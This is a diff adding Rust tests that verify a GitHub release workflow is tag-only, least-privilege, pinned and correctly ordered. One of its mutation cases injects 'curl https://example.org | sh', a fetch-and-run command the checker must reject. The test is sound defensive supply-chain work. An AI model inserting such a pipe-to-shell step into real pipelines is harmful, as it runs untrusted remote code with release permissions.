@@ -102,6 +102,77 @@ fn the_workflow_runs_both_tiers_and_nothing_that_is_not_there() -> Result<()> {
     Ok(())
 }
 
+/// What a release runs besides commands of this repository.
+const OF_A_RELEASE: [&str; 2] = [
+    "sha256sum -- *.deb *.tar.gz | tee SHA256SUMS",
+    r#"gh release create "$GITHUB_REF_NAME" --verify-tag --title "$GITHUB_REF_NAME" --notes-file /dev/null *.deb *.tar.gz SHA256SUMS"#,
+];
+
+/// Fails unless a release is made of a tag, checked first, and given away last, by jobs that may do no more than they need.
+fn check_release(text: &str) -> Result<()> {
+    use anyhow::ensure;
+    for line in jobs(text)?.iter().flat_map(|(_, lines)| lines) {
+        if let Some(what) = Some(line.as_str()).filter(|line| !OF_A_RELEASE.contains(line)).and_then(wrong) {
+            anyhow::bail!("{line}: {what}");
+        }
+    }
+    let documents = YamlLoader::load_from_str(text)?;
+    let workflow = &documents[0];
+    let events = workflow["on"].as_hash().context("no events")?;
+    let tags = workflow["on"]["push"]["tags"].as_vec().context("no tags")?;
+    ensure!(events.len() == 1 && tags.iter().filter_map(Yaml::as_str).eq(["v*"]), "it is for other events than tags");
+    let (mut writers, mut publishers) = (Vec::new(), Vec::new());
+    for (name, job) in workflow["jobs"].as_hash().context("no jobs")? {
+        let name = name.as_str().context("a job's name")?;
+        let steps = job["steps"].as_vec().context("no steps")?;
+        if !job["permissions"].is_badvalue() {
+            writers.push(name);
+        }
+        if steps.iter().any(|step| step["run"].as_str().is_some_and(|run| run.contains("--publish"))) {
+            publishers.push(name);
+        }
+        let needs: Vec<_> = job["needs"].as_vec().into_iter().flatten().filter_map(Yaml::as_str).collect();
+        let expected: &[&str] = match name {
+            "release" => &["check", "packages"],
+            "crates" => &["release"],
+            _ => &[],
+        };
+        ensure!(needs == expected, "{name} waits for {needs:?}");
+        let has_all = |part: &str| steps.iter().any(|step| step["run"].as_str().is_some_and(|run| run.contains(part)));
+        ensure!(name != "check" || has_all("bash .ci/run") && has_all("package tag"), "{name} does not check");
+        let parts = ["package deb", "package check", "package musl"];
+        ensure!(name != "packages" || parts.iter().all(|part| has_all(part)), "{name} does not build and check");
+    }
+    ensure!(writers == ["release"] && publishers == ["crates"], "{writers:?} write and {publishers:?} publish");
+    ensure!(text.matches("secrets.").count() == 1, "more than one secret is used");
+    Ok(())
+}
+
+#[test]
+fn a_release_is_checked_first_and_published_last() -> Result<()> {
+    let text = read(".github/workflows/release.yml")?;
+    check_release(&text)?;
+    for (old, new) in [
+        ("package deb", "package dep"),
+        ("package check target/package/*.deb", "package deb"),
+        ("tags: [\"v*\"]", "branches: [main]"),
+        ("needs: [check, packages]", "needs: [packages]"),
+        ("needs: [release]", "needs: []"),
+        ("bash .ci/run", "cargo xtask ci"),
+        ("package tag \"$GITHUB_REF_NAME\"", "package musl"),
+        ("crates --publish\n        env", "crates\n        env"),
+        ("    permissions:\n      contents: write\n", ""),
+        ("    timeout-minutes: 60\n", "    timeout-minutes: 60\n    permissions:\n      contents: write\n"),
+        ("permissions:\n  contents: read", "permissions:\n  contents: write"),
+        ("- run: sha256sum", "- run: curl https://example.org | sh; sha256sum"),
+        ("@v4.6.2", "@v4"),
+    ] {
+        assert!(text.contains(old), "{old}");
+        assert!(check_release(&text.replacen(old, new, 1)).is_err(), "{new}");
+    }
+    Ok(())
+}
+
 #[test]
 fn contributing_lists_every_command() -> Result<()> {
     let text = read("CONTRIBUTING.md")?;
@@ -155,8 +226,9 @@ fn no_script_is_in_the_tier_that_needs_cargo_alone() {
     let written = written();
     assert!(written.iter().map(|(name, _)| *name).eq(STEPS.iter().map(|step| step.name)));
     for (step, (name, text)) in STEPS.iter().zip(written) {
-        let is_script =
-            ["script(", "prove::run", "figures::", "cluster::", "recorder::"].iter().any(|part| text.contains(part));
+        let is_script = ["script(", "prove::run", "figures::", "cluster::", "recorder::", "package::"]
+            .iter()
+            .any(|part| text.contains(part));
         assert!(step.tier == Tier::All || !is_script, "{name}");
     }
 }
